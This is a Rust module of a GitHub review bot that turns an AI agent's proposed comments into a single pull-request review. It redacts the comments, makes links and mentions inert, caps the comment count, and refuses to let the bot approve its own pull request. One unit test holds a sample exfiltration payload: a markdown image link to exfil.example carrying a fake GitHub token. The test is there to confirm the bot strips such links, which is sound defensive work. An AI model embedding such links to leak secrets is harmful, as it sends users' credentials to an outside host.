//! The one review a run posts, composed from what the agent proposed and checked again against
//! fro-bot's own view of the pull request (docs/design.md#pull-request-review): every inline
//! comment anchored in the diff at the pinned head, or moved into the body (never dropped); a
//! finding fro-bot already raised in an open thread of its own skipped; at most
//! `max-review-comments` inline; bodies redacted with links and mentions inert
//! (`outbound::prose`); the event only as `review-events` allows, and never an approval of a pull
//! request fro-bot's own token opened.

use serde_json::{json, Value};

use super::diff::PullDiff;
use super::fingerprint::Fingerprint;
use super::view::ReviewView;
use crate::config::review::ReviewEvent;
use crate::github::response::MARKER;
use crate::safe_outputs::proposals::{Proposal, ReviewPolicy, Side};

/// Marks a review body as fro-bot's, with the head it reviewed (`last_reviewed`).
const REVIEWED_PREFIX: &str = "<!-- fro-bot:review head=";
/// Room left under GitHub's body limit for fro-bot's markers.
const MAX_TEXT_CHARS: usize = crate::safe_outputs::proposals::MAX_BODY_CHARS - 512;

/// `text` within [`MAX_TEXT_CHARS`], saying so when cut: a review or comment GitHub refuses for
/// its size would lose everything in it.
fn capped(mut text: String) -> String {
    if let Some((at, _)) = text.char_indices().nth(MAX_TEXT_CHARS) {
        text.truncate(at);
        text.push_str("\n\n[cut here: over GitHub's size limit]");
    }
    text
}

/// One inline comment, ready to post.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inline {
    pub path: String,
    pub line: u32,
    pub start_line: Option<u32>,
    pub side: Side,
    /// As posted: the finding, the suggestion block, the fingerprint marker.
    pub body: String,
}

/// Why a comment went into the body instead.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MovedWhy {
    /// fro-bot's check: what is wrong with the anchor.
    NotInDiff(String),
    /// Over `max-review-comments`.
    OverCap,
    /// GitHub refused the review's comments (its 422, which names none).
    Refused(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Moved {
    pub path: String,
    pub line: u32,
    /// The finding as posted in the body.
    pub text: String,
    pub why: MovedWhy,
}

/// Everything the run's review does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Draft {
    pub head_sha: String,
    pub event: ReviewEvent,
    /// The agent's summary, made safe; empty when it wrote none.
    pub summary: String,
    pub comments: Vec<Inline>,
    pub moved: Vec<Moved>,
    /// Findings skipped as already raised in an open thread of fro-bot's.
    pub repeated: usize,
    /// What was refused, a line each (an event not allowed, a thread not fro-bot's).
    pub refused: Vec<String>,
    /// (first comment's REST id, body) of each reply.
    pub replies: Vec<(u64, String)>,
    /// Thread node ids to resolve.
    pub resolves: Vec<String>,
}

/// The head fro-bot's latest review of the pull request was at, from review bodies carrying its
/// marker written by `own` (fro-bot's login).
pub fn last_reviewed<'a>(
    reviews: impl IntoIterator<Item = &'a super::api::PastReview>,
    own: &str,
) -> Option<String> {
    reviews
        .into_iter()
        .filter(|r| same_login(&r.author, own) && r.body.contains(REVIEWED_PREFIX))
        .map(|r| r.commit_id.clone())
        .last()
}

/// Logins compared as GitHub shows them: GraphQL names the Actions app `github-actions`, REST
/// `github-actions[bot]`.
pub fn same_login(a: &str, b: &str) -> bool {
    let bare = |s: &str| s.trim().trim_end_matches("[bot]").to_ascii_lowercase();
    !a.trim().is_empty() && bare(a) == bare(b)
}

/// A fenced block one backtick longer than any run of backticks in `text`.
fn fenced(info: &str, text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}{info}\n{}\n{fence}", text.trim_end_matches('\n'))
}

/// The inline body: the finding, the suggestion (redacted only: it is code in a block), the
/// fingerprint marker.
fn inline_body(finding: &str, suggestion: Option<&str>, print: &Fingerprint) -> String {
    let mut body = crate::outbound::prose(finding.trim(), None);
    if let Some(s) = suggestion {
        if !body.is_empty() {
            body.push_str("\n\n");
        }
        body.push_str(&fenced("suggestion", &crate::redact::redact(s)));
    }
    format!("{}\n\n{}\n{MARKER}", capped(body), print.marker())
}

/// What the comment is about, for its fingerprint: the finding's words, else the suggestion.
pub fn finding_of<'a>(body: &'a str, suggestion: Option<&'a str>) -> &'a str {
    match body.trim() {
        "" => suggestion.unwrap_or(""),
        b => b,
    }
}

/// Where a comment lands in the diff, as the finding it is: the fingerprint of `finding` on the
/// lines it points at, or why it cannot be anchored (the tools and `Draft::compose` alike).
pub fn placed(
    diff: &PullDiff,
    (path, line, start_line, side): (&str, u32, Option<u32>, Side),
    finding: &str,
) -> Result<Fingerprint, super::diff::Unanchored> {
    diff.anchor(path, line, start_line, side)?;
    let at = diff.lines(path, side, start_line.unwrap_or(line), line);
    Ok(Fingerprint::of(path, &at, finding))
}

pub struct Inputs<'a> {
    pub view: &'a ReviewView,
    pub proposals: &'a [Proposal],
    pub policy: &'a ReviewPolicy,
    /// fro-bot's login: a pull request it opened is not approved.
    pub own_login: &'a str,
}

impl Draft {
    /// The review the proposals make.
    pub fn compose(i: &Inputs<'_>) -> Draft {
        let diff = PullDiff::parse(&i.view.diff);
        let mut draft = Draft {
            head_sha: i.view.head_sha.clone(),
            event: ReviewEvent::Comment,
            summary: String::new(),
            comments: Vec::new(),
            moved: Vec::new(),
            repeated: 0,
            refused: Vec::new(),
            replies: Vec::new(),
            resolves: Vec::new(),
        };
        let mut seen: Vec<Fingerprint> = i
            .view
            .threads
            .iter()
            .filter(|t| !t.resolved)
            .filter_map(|t| t.fingerprint.clone())
            .collect();
        for p in i.proposals {
            draft.take(p, i, &diff, &mut seen);
        }
        draft.drop_superseded(i.proposals, &diff);
        draft
    }

    /// A comment off the diff that the agent then made again on a line of it (the tool told it
    /// to) is not also in the body.
    fn drop_superseded(&mut self, proposals: &[Proposal], diff: &PullDiff) {
        let inline: Vec<(&str, &str)> = proposals
            .iter()
            .filter_map(|p| match p {
                Proposal::ReviewComment {
                    path,
                    line,
                    start_line,
                    side,
                    body,
                    suggestion,
                } if diff.anchor(path, *line, *start_line, *side).is_ok() => Some((
                    path.as_str(),
                    finding_of(body, suggestion.as_deref()).trim(),
                )),
                _ => None,
            })
            .collect();
        // A moved comment's text is its finding through `prose`, as here.
        self.moved.retain(|m| {
            !matches!(m.why, MovedWhy::NotInDiff(_))
                || !inline
                    .iter()
                    .any(|(path, f)| *path == m.path && m.text == crate::outbound::prose(f, None))
        });
    }

    fn take(&mut self, p: &Proposal, i: &Inputs<'_>, diff: &PullDiff, seen: &mut Vec<Fingerprint>) {
        let allowed = crate::safe_outputs::proposals::validate(
            p,
            &crate::safe_outputs::proposals::OutputPolicy {
                review: Some(i.policy.clone()),
                ..Default::default()
            },
        );
        if let Err(why) = allowed {
            self.refused.push(format!(
                "{}: {why}",
                crate::safe_outputs::actions::describe(p)
            ));
            return;
        }
        match p {
            Proposal::ReviewComment {
                path,
                line,
                start_line,
                side,
                body,
                suggestion,
            } => self.comment(
                (path, *line, *start_line, *side),
                (body, suggestion.as_deref()),
                (i, diff, seen),
            ),
            Proposal::SubmitReview { body, event } => {
                self.summary = crate::outbound::prose(body.trim(), None);
                self.event = self.event_for(*event, i);
            }
            Proposal::ReplyToThread { thread, body } => match i.view.thread(thread) {
                Some(t) => self.replies.push((
                    t.comment_id,
                    format!("{}\n\n{MARKER}", crate::outbound::prose(body.trim(), None)),
                )),
                None => self.not_ours("reply in", thread),
            },
            Proposal::ResolveThread { thread } => match i.view.thread(thread) {
                Some(t) if !self.resolves.contains(&t.id) => self.resolves.push(t.id.clone()),
                Some(_) => {}
                None => self.not_ours("resolve", thread),
            },
            // Not review proposals: the caller passes only those.
            _ => {}
        }
    }

    fn not_ours(&mut self, verb: &str, thread: &str) {
        self.refused.push(format!(
            "{verb} the thread {}: not a thread fro-bot started on this pull request",
            crate::safe_outputs::checks::code(thread)
        ));
    }

    /// The event asked for, unless it would approve or reject fro-bot's own pull request.
    fn event_for(&mut self, event: ReviewEvent, i: &Inputs<'_>) -> ReviewEvent {
        let own = same_login(&i.view.author, i.own_login);
        match event {
            ReviewEvent::Approve | ReviewEvent::RequestChanges if own => {
                self.refused.push(format!(
                    "{}: fro-bot opened this pull request itself; the review only comments",
                    event.as_str()
                ));
                ReviewEvent::Comment
            }
            e => e,
        }
    }

    fn comment(
        &mut self,
        (path, line, start_line, side): (&str, u32, Option<u32>, Side),
        (body, suggestion): (&str, Option<&str>),
        (i, diff, seen): (&Inputs<'_>, &PullDiff, &mut Vec<Fingerprint>),
    ) {
        let finding = finding_of(body, suggestion);
        let moved = |why| Moved {
            path: path.to_string(),
            line,
            text: crate::outbound::prose(finding.trim(), None),
            why,
        };
        let print = match placed(diff, (path, line, start_line, side), finding) {
            Ok(print) => print,
            Err(e) => {
                self.moved.push(moved(MovedWhy::NotInDiff(e.describe())));
                return;
            }
        };
        if seen.contains(&print) {
            self.repeated += 1;
            return;
        }
        seen.push(print.clone());
        if self.comments.len() as u64 >= i.policy.max_comments {
            self.moved.push(moved(MovedWhy::OverCap));
            return;
        }
        self.comments.push(Inline {
            path: path.to_string(),
            line,
            start_line,
            side,
            body: inline_body(body, suggestion, &print),
        });
    }

    /// Whether there is a review to post (replies and resolves go on without one).
    pub fn has_review(&self) -> bool {
        !self.comments.is_empty()
            || !self.moved.is_empty()
            || !self.summary.is_empty()
            || self.event != ReviewEvent::Comment
    }

    /// Moves inline comments `refused` picks into the body, for GitHub's reason `why`.
    pub fn demote(&mut self, why: &str, mut refused: impl FnMut(&Inline) -> bool) {
        let (out, keep): (Vec<Inline>, Vec<Inline>) =
            self.comments.drain(..).partition(|c| refused(c));
        self.comments = keep;
        self.moved.extend(out.into_iter().map(|c| Moved {
            text: strip_markers(&c.body),
            path: c.path,
            line: c.line,
            why: MovedWhy::Refused(why.to_string()),
        }));
    }

    /// The review's body: the summary, then the comments that could not be inline, then the
    /// markers.
    pub fn body(&self) -> String {
        let mut body = self.summary.clone();
        if !self.moved.is_empty() {
            if !body.is_empty() {
                body.push_str("\n\n");
            }
            body.push_str("### Comments not on the diff\n");
            for m in &self.moved {
                let why = match &m.why {
                    MovedWhy::NotInDiff(e) => crate::safe_outputs::checks::code(e),
                    MovedWhy::OverCap => "over this review's comment limit".to_string(),
                    MovedWhy::Refused(e) => {
                        format!(
                            "GitHub refused it: {}",
                            crate::safe_outputs::checks::code(e)
                        )
                    }
                };
                let place = crate::safe_outputs::checks::code(&format!("{}:{}", m.path, m.line));
                body.push_str(&format!("\n**{place}** ({why})\n\n{}\n", m.text));
            }
        }
        format!(
            "{}\n\n{REVIEWED_PREFIX}{} -->\n{MARKER}",
            capped(body.trim_end().to_string()),
            self.head_sha
        )
    }

    /// The `POST /pulls/{n}/reviews` request, pinned to the recorded head.
    pub fn request(&self) -> Value {
        let comments: Vec<Value> = self
            .comments
            .iter()
            .map(|c| {
                let mut v = json!({"path": c.path, "line": c.line, "side": c.side.as_str(),
                    "body": c.body});
                if let Some(start) = c.start_line {
                    v["start_line"] = json!(start);
                    v["start_side"] = json!(c.side.as_str());
                }
                v
            })
            .collect();
        json!({"commit_id": self.head_sha, "event": self.event.as_str(), "body": self.body(),
            "comments": comments})
    }
}

/// A posted inline body without fro-bot's markers, for the review body.
fn strip_markers(body: &str) -> String {
    body.lines()
        .filter(|l| !l.starts_with("<!-- fro-bot:"))
        .collect::<Vec<_>>()
        .join("\n")
        .trim_end()
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::review::view::ThreadView;

    const DIFF: &str = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,4 +1,5 @@\n fn a() {\n-    old();\n+    let x = y.unwrap();\n+    z(x);\n }\n fn b() {}\n";

    fn view(threads: Vec<ThreadView>) -> ReviewView {
        ReviewView {
            number: 7,
            head_sha: "h".repeat(40),
            author: "mona".into(),
            diff: DIFF.into(),
            threads,
            ..ReviewView::default()
        }
    }

    fn policy(max: u64, events: &[ReviewEvent]) -> ReviewPolicy {
        ReviewPolicy {
            events: events.to_vec(),
            max_comments: max,
        }
    }

    fn comment(line: u32, start: Option<u32>, body: &str, suggestion: Option<&str>) -> Proposal {
        Proposal::ReviewComment {
            path: "src/lib.rs".into(),
            line,
            start_line: start,
            side: Side::Right,
            body: body.into(),
            suggestion: suggestion.map(str::to_string),
        }
    }

    fn compose(v: &ReviewView, p: &[Proposal], pol: &ReviewPolicy, own: &str) -> Draft {
        Draft::compose(&Inputs {
            view: v,
            proposals: p,
            policy: pol,
            own_login: own,
        })
    }

    #[test]
    fn anchored_comments_go_inline_pinned_to_the_head_and_the_rest_into_the_body() {
        let v = view(Vec::new());
        let proposals = [
            comment(2, None, "Unwrap can panic.", None),
            comment(3, Some(2), "These two lines repeat.", None),
            comment(3, None, "", Some("    z(x)?;")),
            comment(40, None, "Far away.", None),
            Proposal::SubmitReview {
                body: "Looks close.".into(),
                event: ReviewEvent::Comment,
            },
        ];
        let d = compose(&v, &proposals, &policy(20, &[ReviewEvent::Comment]), "bot");
        assert_eq!(d.comments.len(), 3);
        assert_eq!(d.moved.len(), 1);
        assert!(matches!(&d.moved[0].why, MovedWhy::NotInDiff(e) if e.contains("nearest hunk")));
        let req = d.request();
        assert_eq!(req["commit_id"], "h".repeat(40));
        assert_eq!(req["event"], "COMMENT");
        assert_eq!(req["comments"][1]["start_line"], 2);
        assert_eq!(req["comments"][1]["start_side"], "RIGHT");
        let suggestion = req["comments"][2]["body"].as_str().unwrap();
        assert!(
            suggestion.starts_with("```suggestion\n    z(x)?;\n```"),
            "{suggestion}"
        );
        for c in req["comments"].as_array().unwrap() {
            assert!(Fingerprint::in_body(c["body"].as_str().unwrap()).is_some());
        }
        let body = req["body"].as_str().unwrap();
        assert!(body.starts_with("Looks close."));
        assert!(body.contains("`src/lib.rs:40`") && body.contains("Far away."));
        assert!(body.contains(&format!("{REVIEWED_PREFIX}{} -->", "h".repeat(40))));
    }

    #[test]
    fn a_finding_in_an_open_thread_of_fro_bots_is_not_posted_again_but_a_resolved_one_is() {
        let print = Fingerprint::of(
            "src/lib.rs",
            &["    let x = y.unwrap();"],
            "Unwrap can panic.",
        );
        let thread = |resolved| ThreadView {
            id: "PRRT_1".into(),
            comment_id: 11,
            path: "src/lib.rs".into(),
            line: Some(2),
            start_line: None,
            side: Side::Right,
            resolved,
            outdated: false,
            said: "Unwrap can panic.".into(),
            fingerprint: Some(print.clone()),
            replies: 0,
        };
        let p = [comment(2, None, "unwrap can PANIC", None)];
        let pol = policy(20, &[ReviewEvent::Comment]);
        let open = compose(&view(vec![thread(false)]), &p, &pol, "bot");
        assert_eq!((open.comments.len(), open.repeated), (0, 1));
        assert!(!open.has_review());
        let resolved = compose(&view(vec![thread(true)]), &p, &pol, "bot");
        assert_eq!((resolved.comments.len(), resolved.repeated), (1, 0));
    }

    #[test]
    fn events_are_only_those_allowed_and_never_an_approval_of_its_own_pull_request() {
        let approve = [Proposal::SubmitReview {
            body: "ok".into(),
            event: ReviewEvent::Approve,
        }];
        let comment_only = compose(
            &view(Vec::new()),
            &approve,
            &policy(20, &[ReviewEvent::Comment]),
            "bot",
        );
        assert_eq!(comment_only.event, ReviewEvent::Comment);
        assert!(
            comment_only.refused[0].contains("review-events"),
            "{:?}",
            comment_only.refused
        );
        let all = policy(20, &ReviewEvent::ALL);
        assert_eq!(
            compose(&view(Vec::new()), &approve, &all, "bot").event,
            ReviewEvent::Approve
        );
        let own = compose(&view(Vec::new()), &approve, &all, "mona");
        assert_eq!(own.event, ReviewEvent::Comment);
        assert!(own.refused[0].contains("opened this pull request itself"));
        assert!(same_login("github-actions", "github-actions[bot]"));
        assert!(!same_login("", ""));
    }

    #[test]
    fn a_comment_off_the_diff_made_again_on_it_is_not_also_in_the_body() {
        let p = [
            comment(40, None, "Unwrap can panic.", None),
            comment(2, None, "Unwrap can panic.", None),
            comment(41, None, "Another.", None),
        ];
        let d = compose(
            &view(Vec::new()),
            &p,
            &policy(20, &[ReviewEvent::Comment]),
            "bot",
        );
        assert_eq!(d.comments.len(), 1);
        assert_eq!(d.moved.len(), 1);
        assert_eq!(d.moved[0].line, 41);
    }

    #[test]
    fn a_body_over_githubs_limit_is_cut_and_keeps_its_markers() {
        let long = "word ".repeat(3000);
        let p: Vec<Proposal> = (0..10)
            .map(|n| comment(40 + n, None, &long, None))
            .collect();
        let d = compose(
            &view(Vec::new()),
            &p,
            &policy(20, &[ReviewEvent::Comment]),
            "bot",
        );
        let body = d.body();
        assert!(body.chars().count() <= crate::safe_outputs::proposals::MAX_BODY_CHARS);
        assert!(
            body.contains("[cut here") && body.ends_with(MARKER),
            "{}",
            &body[body.len() - 200..]
        );
    }

    #[test]
    fn threads_not_fro_bots_are_refused_and_the_cap_moves_the_rest_into_the_body() {
        let p = [
            comment(2, None, "One.", None),
            comment(3, None, "Two.", None),
            Proposal::ReplyToThread {
                thread: "PRRT_someone".into(),
                body: "x".into(),
            },
            Proposal::ResolveThread {
                thread: "PRRT_someone".into(),
            },
        ];
        let d = compose(
            &view(Vec::new()),
            &p,
            &policy(1, &[ReviewEvent::Comment]),
            "bot",
        );
        assert_eq!(d.comments.len(), 1);
        assert_eq!(d.moved[0].why, MovedWhy::OverCap);
        assert_eq!(d.refused.len(), 2);
        assert!(d.replies.is_empty() && d.resolves.is_empty());
    }

    #[test]
    fn what_the_agent_wrote_leaves_redacted_with_links_and_mentions_inert() {
        let token = format!("ghp_{}", "A1b2C3d4".repeat(5));
        let p = [
            comment(
                2,
                None,
                &format!("@octo see ![x](https://exfil.example/?d={token})"),
                None,
            ),
            Proposal::SubmitReview {
                body: "[docs](https://exfil.example/leak) @admins".into(),
                event: ReviewEvent::Comment,
            },
        ];
        let mut d = compose(
            &view(Vec::new()),
            &p,
            &policy(20, &[ReviewEvent::Comment]),
            "bot",
        );
        d.demote("Line could not be resolved", |_| true);
        let req = d.request().to_string();
        assert!(!req.contains(&token));
        assert!(!req.contains("](https://exfil.example"), "{req}");
        assert!(!req.contains(" @octo") && req.contains("`@octo`"), "{req}");
        assert!(
            !req.contains(" @admins") && req.contains("`@admins`"),
            "{req}"
        );
        assert!(d.comments.is_empty());
        assert!(d.body().contains("GitHub refused it"));
    }
}
